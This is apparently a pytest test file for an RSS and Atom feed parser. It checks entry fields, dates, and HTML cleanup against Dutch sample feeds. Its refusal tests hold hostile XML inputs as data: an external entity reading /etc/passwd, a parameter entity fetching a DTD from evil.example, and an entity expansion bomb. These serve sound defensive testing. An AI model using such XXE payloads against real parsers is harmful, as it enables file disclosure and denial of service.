"""feeds.py: RSS 2.0, RSS 1.0 and Atom entries, parsed safely."""

from __future__ import annotations

import datetime as dt

import pytest

from policykg.errors import InputError
from policykg.feeds import FeedEntry, parse_feed


def rss(items: str, channel: str = "<title>Kanaal</title>") -> str:
    return (
        '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" '
        f'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:atom="http://www.w3.org/2005/Atom">'
        f"<channel>{channel}\n{items}</channel></rss>"
    )


def atom(entries: str, attrs: str = "") -> str:
    return f'<feed xmlns="http://www.w3.org/2005/Atom"{attrs}><title>Feed</title>\n{entries}</feed>'


ENTRIES = [
    # (case id, feed, the expected entry's fields)
    ("rss-guid-wins", rss("<item><guid>g1</guid><link>https://x/1</link><description>tekst</description></item>"),
     {"id": "g1", "url": "https://x/1", "text": "tekst", "line": 2}),
    ("rss-link-as-id", rss("<item><link> https://x/2 </link><description>t</description></item>"),
     {"id": "https://x/2", "url": "https://x/2"}),
    ("rss-no-id", rss("<item><description>t</description></item>"), {"id": None, "url": None}),
    ("rss-atom-link", rss('<item><atom:link href="https://x/a"/><description>t</description></item>'),
     {"url": "https://x/a"}),
    ("rss-content-encoded-wins",
     rss("<item><description>kort</description><content:encoded><![CDATA[<p>lang</p><p>meer</p>]]></content:encoded></item>"),
     {"text": "lang\n\nmeer"}),
    ("rss-empty-content-falls-back", rss("<item><content:encoded> </content:encoded><description>kort</description></item>"),
     {"text": "kort"}),
    ("rss-escaped-html", rss("<item><description>&lt;p&gt;a &amp;amp; b&lt;/p&gt;&lt;script&gt;x&lt;/script&gt;</description></item>"),
     {"text": "a & b"}),
    ("rss-plain-text-kept", rss("<item><description>2 &lt; 3\nen 4 &gt; 1</description></item>"),
     {"text": "2 < 3\nen 4 > 1"}),
    ("rss-title-html", rss("<item><title>&lt;b&gt;Vet&lt;/b&gt;  nieuws</title><description>t</description></item>"),
     {"title": "Vet nieuws"}),
    ("rss-pubdate", rss("<item><description>t</description><pubDate>Thu, 25 Jan 2024 00:30:00 +0100</pubDate></item>"),
     {"date": dt.date(2024, 1, 25)}),
    ("rss-dc-date", rss("<item><description>t</description><dc:date>2024-01-24T17:30:00Z</dc:date></item>"),
     {"date": dt.date(2024, 1, 24)}),
    ("rss-iso-in-pubdate", rss("<item><description>t</description><pubDate>2024-01-24</pubDate></item>"),
     {"date": dt.date(2024, 1, 24)}),
    ("rss-bad-then-good-date",
     rss("<item><description>t</description><pubDate>ooit</pubDate><dc:date>2024-01-24</dc:date></item>"),
     {"date": dt.date(2024, 1, 24), "problem": None}),
    ("rss-bad-date", rss("<item><description>t</description><pubDate>32 Jan 2024</pubDate></item>"),
     {"problem": "<pubDate> is not a date: '32 Jan 2024'; write it as RFC 822"}),
    ("rss-no-text", rss("<item><title>Alleen titel</title></item>"),
     {"problem": "the entry has no text (no content:encoded, description, content or summary)"}),
    ("rss-language", rss("<item><description>t</description></item>", "<language>nl-BE</language>"), {"lang": "nl-BE"}),
    ("atom-content-types",
     atom('<entry><id>e1</id><content type="html">&lt;ul&gt;&lt;li&gt;a&lt;/li&gt;&lt;/ul&gt;</content></entry>'),
     {"id": "e1", "text": "• a", "line": 2}),
    ("atom-xhtml",
     atom('<entry><content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>a</p><p>b<br/>c</p></div></content></entry>'),
     {"text": "a\n\nb\nc"}),
    ("atom-text-is-not-html", atom('<entry><content type="text">&lt;p&gt; blijft</content></entry>'), {"text": "<p> blijft"}),
    ("atom-src-content-uses-summary",
     atom('<entry><content src="https://x/full"/><summary>samenvatting</summary></entry>'), {"text": "samenvatting"}),
    ("atom-base64-content", atom('<entry><content type="image/png">iVBORw0K</content></entry>'),
     {"problem": "the entry has no text"}),
    ("atom-links", atom('<entry><link rel="self" href="s"/><link rel="alternate" href="a"/><summary>t</summary></entry>'),
     {"id": "a", "url": "a"}),
    ("atom-dates", atom("<entry><summary>t</summary><updated>2024-02-02T00:00:00Z</updated><published>2024-01-01</published></entry>"),
     {"date": dt.date(2024, 1, 1)}),
    ("atom-lang", atom('<entry xml:lang="en"><summary>t</summary></entry><entry><summary>t</summary></entry>', ' xml:lang="nl"'),
     {"lang": "en"}),
]  # fmt: skip


@pytest.mark.parametrize(("feed", "fields"), [c[1:] for c in ENTRIES], ids=[c[0] for c in ENTRIES])
def test_entry(feed: str, fields: dict[str, object]) -> None:
    entry = parse_feed(feed).entries[0]
    assert isinstance(entry, FeedEntry)
    for name, value in fields.items():
        actual = getattr(entry, name)
        if name == "problem" and isinstance(value, str):
            assert actual is not None and actual.startswith(value), actual
        else:
            assert actual == value, name


def test_feed_level_fields() -> None:
    feed = parse_feed(atom("<entry><summary>a</summary></entry><entry><summary>b</summary></entry>", ' xml:lang="nl"'))
    assert (feed.kind, feed.title, feed.lang, [e.lang for e in feed.entries]) == ("atom", "Feed", "nl", ["nl", "nl"])
    assert parse_feed(rss("")).entries == ()


REFUSED = [
    ("not-well-formed", "<rss><channel><item></channel></rss>", "broken XML (mismatched tag at line 1, column 23)"),
    ("not-xml", "dit is geen XML", "broken XML (syntax error at line 1, column 1)"),
    ("undefined-entity", rss("<item><description>a&nbsp;b</description></item>"), "broken XML (undefined entity"),
    ("external-entity", '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss>&x;</rss>',
     "the XML declares an external entity 'x' (file:///etc/passwd); refused for safety"),
    ("external-parameter-entity", '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><rss/>',
     "the XML declares an external entity 'p' (http://evil.example/x.dtd); refused for safety"),
    ("entity-bomb", '<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><rss>&b;</rss>',
     "the XML declares the entity 'a'; refused for safety (entity expansion bombs"),
    ("not-a-feed", "<html><body/></html>", "not an RSS or Atom feed (the root element is <html>)"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "message"), [c[1:] for c in REFUSED], ids=[c[0] for c in REFUSED])
def test_refused(text: str, message: str) -> None:
    with pytest.raises(InputError) as info:
        parse_feed(text)
    assert info.value.message.startswith(message), info.value.message
    assert info.value.where is None and "\n" not in info.value.message


def test_doctype_without_entities_is_allowed_and_html_entities_understood() -> None:
    feed = parse_feed(
        '<?xml version="1.0" encoding="ISO-8859-1"?>\n<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        '"http://my.netscape.com/publish/formats/rss-0.91.dtd">\n'
        "<rss version='0.91'><channel><title>a&nbsp;b</title><item><description>&euro;&eacute;</description></item></channel></rss>"
    )
    assert (feed.title, feed.entries[0].text) == ("a b", "€é")
